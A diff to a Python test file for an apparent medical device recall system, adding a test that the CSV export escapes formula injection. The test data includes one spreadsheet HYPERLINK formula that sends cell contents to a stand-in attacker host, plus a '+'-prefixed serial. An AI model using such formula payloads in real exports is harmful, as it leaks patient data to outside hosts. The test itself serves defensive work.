@@ -3,6 +3,8 @@ that are refused, recall search and the MRI flag."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from datetime import date, timedelta
 
@@ -123,6 +125,18 @@ def test_a_recall_search_by_lot_lists_exactly_the_patients_with_an_active_device
         events = [e.action for e in db.session.scalars(select(AuditEvent)
                                                        .where(AuditEvent.entity_type == "device_recall"))]
     assert events == ["search", "export"]
+
+
+def test_a_recall_export_writes_a_formula_typed_into_a_device_as_text(signed_in):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    nurse = signed_in("nurse")
+    assert nurse.post("/patients/3/devices/new",
+                      data={**NEW_PUMP, "manufacturer": formula, "lot": "LOTX1", "serial": "+SN1"}).status_code == 302
+    export = signed_in("manager").get("/devices/recall?lot=LOTX1&export=csv")
+    [row] = list(csv.DictReader(io.StringIO(export.get_data(as_text=True))))
+    assert row["Manufacturer"] == "'" + formula
+    assert row["Serial"] == "'+SN1"
+    assert row["Implanted"] == TODAY.strftime("%m/%d/%Y")
 
 
 def test_an_implant_that_is_not_mri_conditional_flags_the_patient(signed_in):
